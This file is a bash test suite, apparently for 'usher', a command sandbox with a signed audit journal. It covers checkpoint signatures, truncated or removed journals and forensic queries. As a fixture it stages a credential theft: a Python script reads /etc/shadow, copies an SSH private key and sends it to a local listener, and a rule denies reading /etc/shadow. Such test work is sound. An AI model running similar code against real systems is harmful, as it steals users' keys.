@@ -1,0 +1,170 @@
+#!/bin/bash
+# SPDX-License-Identifier: Apache-2.0
+# The journal as evidence: checkpoints as others read them, a journal that is cut off, taken away or has no room, and what an
+# investigator asks of a session in which something was stolen.
+. "$(dirname "$0")/lib.sh"
+need python3
+log() { "$USHER" log "$@" 2>&1; }
+has() { # NAME TEXT WHERE
+	if grep -qaF -- "$2" "$3"; then ok "$1"; else not_ok "$1" "no '$2' in:" "$(head -c 1500 "$3")"; fi
+}
+run() { "$USHER" run -p "${RULES:-$T/etc/allow.rules}" "$@"; }
+
+# Checkpoints are C2SP signed notes of tlog-checkpoints, to the byte; the keys and hashes are made again here.
+fresh
+run --anchor="file:$T/heads" --journal "$T/a" -- sh -c 'i=0; while [ $i -lt 300 ]; do i=$((i+1)); : >f$i; done; sleep 5.5; : >late' 2>"$T/err"
+same "a session that is anchored" 0 $?
+python3 - "$TREE/tests/verify.py" "$T/heads" "$T/a" <<'P'
+import base64, glob, hashlib, importlib.util, json, os, re, sys
+def say(good, name, *more): print(("ok " if good else "not ok ") + name); [print("   ", m) for m in more if not good]
+sys.dont_write_bytecode = True
+if not os.access(sys.argv[1], os.R_OK): print("skip checkpoints: no tests/verify.py here"); sys.exit()
+spec = importlib.util.spec_from_file_location("verify", sys.argv[1]); v = importlib.util.module_from_spec(spec); spec.loader.exec_module(v)
+raw = open(sys.argv[2], "rb").read()
+lines = [l.rstrip(b"\n") for f in sorted(glob.glob(sys.argv[3] + "/journal-*")) for l in open(f, "rb") if l.startswith(b"{")]
+first, notes = raw.split(b"\n\n", 1)
+m = re.fullmatch(rb"usher-journal/1 ed25519 ([0-9a-f]{64})\ncheckpoints (\S+)\+([0-9a-f]{8})\+(\S+)", first)
+say(bool(m) and json.loads(lines[0])["key"].encode() == m[1], "the first anchor names the first key and that of the checkpoints", first)
+name, ident, key = m[2], bytes.fromhex(m[3].decode()), base64.b64decode(m[4], validate=True)
+say(key[0] == 1 and len(key) == 33 and hashlib.sha256(name + b"\n" + key).digest()[:4] == ident, "key hash = SHA-256(name LF 0x01 key), first four bytes")
+say(b" " not in name and b"+" not in name, "the name has no blank and no plus sign", name)
+def leaf(d): return hashlib.sha256(b"\0" + d).digest()
+def tree(l):
+    if len(l) == 1: return l[0]
+    k = 1 << (len(l) - 1).bit_length() - 1
+    return hashlib.sha256(b"\1" + tree(l[:k]) + tree(l[k:])).digest()
+seals = [i for i, l in enumerate(lines) if b'"type":"seal"' in l]
+found = re.findall(rb"((?:[^\n]+\n)+)\n\xe2\x80\x94 (\S+) (\S+)\n\n", notes)
+say(b"".join(b"%s\n\xe2\x80\x94 %s %s\n\n" % f for f in found) == notes, "notes: text, blank line, em dash, name, signature; nothing else")
+say(len(found) == len(seals) >= 2, "one for each seal", len(found), len(seals))
+good = True
+for n, (text, who, signature) in enumerate(found, 1):
+    sig = base64.b64decode(signature, validate=True)
+    origin, size, root, head, own = text.decode().splitlines()
+    at = seals[n - 1]
+    good &= who == name and origin.encode() == name and size == str(n) and sig[:4] == ident and len(sig) == 68 and v.signed_by(key[1:], text, sig[4:])
+    good &= base64.b64decode(root, validate=True) == tree([leaf(lines[i]) for i in seals[:n]])
+    good &= head == "head %d %s" % (at + 1, hashlib.sha256(lines[at]).hexdigest()) and own.encode() == b"usher-journal/1 ed25519 " + m[1]
+say(good, "origin, size, root, extension lines and Ed25519 signature of each")
+P
+"$USHER" verify --anchor "$T/heads" "$T/a" >"$T/out" 2>&1; same "the journal has what was anchored" 0 $?
+
+# Cut off: an end, a whole part, with or without filling behind; set back while the anchor goes on.
+cut_off() { # NAME LINES FILL
+	rm -rf "$T/cut"; mkdir "$T/cut"; cp "$T/a/anchor" "$T/cut"
+	head -n "$2" "$T/a/journal-000001.jsonl" >"$T/cut/journal-000001.jsonl"
+	[ "$3" = 0 ] || head -c "$3" /dev/zero | tr '\0' '\n' >>"$T/cut/journal-000001.jsonl"
+	"$USHER" verify --anchor "$T/heads" "$T/cut" >"$T/out" 2>&1; same "found with the anchor: $1" 1 $?
+}
+n=$(wc -l <"$T/a/journal-000001.jsonl")
+cut_off "no final seal" $((n - 1)) 100; cut_off "no end" $((n - 2)) 100; cut_off "half" $((n / 2)) 100; cut_off "half, no filling" $((n / 2)) 0; cut_off "one record" 1 4000
+rm -rf "$T/cut"; mkdir "$T/cut"; head -n $((n - 2)) "$T/a/journal-000001.jsonl" >"$T/cut/journal-000001.jsonl"; printf '\n\n\n' >>"$T/cut/journal-000001.jsonl"
+"$USHER" verify "$T/cut" >"$T/out" 2>&1; has "without one, a journal without its end is not closed" "not closed" "$T/out"
+cp "$T/cut/journal-000001.jsonl" "$T/seg"; head -n 20 "$T/seg" >"$T/cut/journal-000001.jsonl"; tail -n +21 "$T/seg" >"$T/cut/journal-000002.jsonl"
+rm "$T/cut/journal-000002.jsonl"; printf '\n\n' >>"$T/cut/journal-000001.jsonl"
+"$USHER" verify --anchor "$T/heads" "$T/cut" >"$T/out" 2>&1; same "found with the anchor: a whole segment" 1 $?
+
+# A command that takes the heads, and dies later: said in the journal, which goes on.
+fresh
+run --anchor="exec:cat >>$T/one; [ \$(grep -c . $T/one) -lt 4 ]" --journal "$T/dies" -- sh -c 'sleep 5.5; : >x' 2>"$T/err"
+same "an anchor command that dies later" 0 $?
+"$USHER" verify "$T/dies" >"$T/out" 2>&1; same "its journal is whole" 0 $?
+has "and says so" '"event":"anchor"' "$T/dies/journal-000001.jsonl"
+
+# Taken away while it is written: nothing more happens.
+fresh
+run --journal "$T/gone" -- sh -c ': >begun; i=0; while [ ! -e stop ]; do : >f$i || exit 7; i=$((i+1)); sleep 0.1; done' >"$T/out" 2>&1 &
+pid=$!
+wait_for test -e begun; rm -rf "$T/gone"
+wait_for gone $pid || { touch stop; not_ok "a session whose journal was removed ends its effects"; }
+wait $pid; same "a session whose journal was removed refuses" 7 $?
+has "and the person is told" "cannot be written" "$T/out"
+
+# No room: what runs is recorded, programs too.
+fresh
+(ulimit -f 100; run --journal "$T/small" -- bash -c 'i=0; while [ $i -lt 2000 ]; do i=$((i+1)); /bin/echo x >&3 || exit 9; done' 3>"$T/ran" 2>"$T/err")
+ran=$(wc -l <"$T/ran"); kept=$(records "$T/small" | grep -a '"object":"/usr/bin/echo"' | grep -ac '"result":0')
+[ "$ran" -lt 2000 ] && [ "$ran" -le "$kept" ] && ok "a limit on files: every program that ran has its record ($ran)" || not_ok "a limit on files: every program that ran has its record" "$ran ran, $kept records"
+"$USHER" verify "$T/small" >"$T/out" 2>&1; same "and the journal verifies" 0 $?
+
+# usher stopped and continued.
+fresh
+run --journal "$T/stop" -- sh -c 'i=0; while [ $i -lt 200 ]; do : >f$i; i=$((i+1)); done' 2>"$T/err" &
+pid=$!
+wait_for test -e f20; kill -STOP $pid; sleep 0.5; kill -CONT $pid; wait $pid
+same "usher stopped and continued" "0 200" "$? $(find . -name 'f*' | wc -l)"
+"$USHER" verify --closed "$T/stop" >"$T/out" 2>&1; same "its journal is whole" 0 $?
+
+# An investigation. A build runs a script that takes a key away.
+fresh
+mkdir -p "$T/home/.ssh"; echo KEY >"$T/home/.ssh/id_ed25519"
+port=$(free_port)
+cat >"$T/etc/i.rules" <<R
+deny read /etc/shadow reason="not yours"
+default allow
+R
+chmod 600 "$T/etc/i.rules"
+cat >steal.py <<P
+import os, shutil, socket
+try: open("/etc/shadow")
+except OSError: pass
+shutil.copy(os.path.expanduser("~/.ssh/id_ed25519"), "cache.bin")
+os.rename("cache.bin", "build.tmp")
+os.link("build.tmp", "b2")
+s = socket.create_connection(("127.0.0.1", $port)); s.send(open("b2", "rb").read()); s.close()
+open(b"odd\n\x1b[31m\xe2\x80\xae\xff", "w").close()
+P
+printf 'all: out\nout: in\n\tcp in out && python3 steal.py\n' >Makefile; echo 1 >in
+python3 -c 'import socket, sys
+s = socket.create_server(("127.0.0.1", int(sys.argv[1]))); print("up", flush=True); c, _ = s.accept(); c.recv(99)' "$port" >"$T/up" &
+server=$!
+wait_for grep -q up "$T/up"
+if command -v make >/dev/null; then build=make; else build="sh -c 'cp in out && python3 steal.py'"; fi
+RULES=$T/etc/i.rules run --journal "$T/i" -- sh -c "$build; git --version; true" >"$T/out" 2>&1
+wait $server
+one_each() { # NAME QUERY...: each line of the answer is one record in printable ASCII
+	local name=$1 out
+	shift
+	out=$(log "$T/i" "$@") || { not_ok "$name" "$out"; return; }
+	[ -n "$out" ] && ! LC_ALL=C grep -qa '[^ -~]' <<<"$out" && ok "$name ($(wc -l <<<"$out") lines)" || not_ok "$name" "$(head -5 <<<"$out")"
+}
+one_each "denied" denied
+one_each "what python connected to" by:python3* op:connect since:10m
+one_each "all that read a key" "path:$T/home/.ssh/**" op:read
+one_each "by time" since:1h until:2099-01-01
+one_each "a pid" "pid:$(log "$T/i" denied | awk '{print $3; exit}')"
+one_each "what failed" failed by:python3*
+one_each "--tree" --tree
+one_each "--timeline" --timeline
+same "denied: one line, with the rule" 1 "$(log "$T/i" denied | grep -c "/etc/shadow  deny by $T/etc/i.rules:1 = EACCES")"
+log "$T/i" who-touched "$T/project/b2" >"$T/who"
+for f in cache.bin build.tmp b2; do has "who-touched goes back to $f" "$T/project/$f" "$T/who"; done
+log "$T/i" who-touched cache.bin >"$T/who2"; same "and forth, by a relative name" "$(cat "$T/who")" "$(cat "$T/who2")"
+same "a name of odd bytes can be asked for" 1 "$(log "$T/i" op:create "path:$T/project/odd"$'\n\e[31m\xe2\x80\xae\xff' | wc -l)"
+same "and by a pattern" 1 "$(log "$T/i" op:create "path:$T/project/odd?*" | wc -l)"
+same "and by who-touched" 1 "$(log "$T/i" who-touched "$T/project/odd"$'\n\e[31m\xe2\x80\xae\xff' | wc -l)"
+for w in "denied" "path:$T/project/**" "op:connect" "by:python3* failed" "type:note"; do
+	log "$T/i" $w >"$T/with.out"; "$USHER" log "$T/i" index; log "$T/i" $w >"$T/without.out"; rm -f "$T/i/index.sqlite"
+	cmp -s "$T/with.out" "$T/without.out" && ok "the same with an index: $w" || not_ok "the same with an index: $w"
+done
+seq=$(log "$T/i" --json denied | sed 's/^{"seq":\([0-9]*\),.*/\1/')
+log "$T/i" explain "$seq" >"$T/out"
+for w in "verdict   deny" "The rule as it stood, $T/etc/i.rules:1" "deny read /etc/shadow" "stack" "Before that, the same thread"; do has "explain: $w" "$w" "$T/out"; done
+
+# The examples of the manual, in a session of its own.
+XDG_STATE_HOME=$T/state2; export XDG_STATE_HOME; mkdir -p "$T/state2" "$T/home/project"
+HOME=$T/home "$USHER" run -p "$T/etc/i.rules" -- sh -c 'echo {} >$HOME/project/config.json; cat /etc/shadow' >/dev/null 2>&1
+DIR=$(ls -d "$T"/state2/usher/*/); DIR=${DIR%/}; export DIR
+page=$TREE/man/usher-journal.5
+if [ -r "$page" ]; then
+	n=0
+	while IFS= read -r line; do
+		line=$(printf %s "$line" | sed 's/\\(dq/"/g; s/\\-/-/g')
+		command -v jq >/dev/null || [[ $line != *jq* ]] || continue
+		n=$((n + 1))
+		(cd "$T/project" && HOME=$T/home PATH=${USHER%/*}:$PATH; usher() { "$USHER" "$@"; }; eval "$line") >"$T/out" 2>&1
+		same "an example of usher-journal(5): $line" 0 $?
+	done < <(sed -n '/^\.Sh EXAMPLES/,/^\.Sh SEE/s/^\.Dl //p' "$page")
+	[ $n -ge 3 ] && ok "the manual has examples" || not_ok "the manual has examples"
+else skip examples "the manual cannot be read here"; fi
+finish
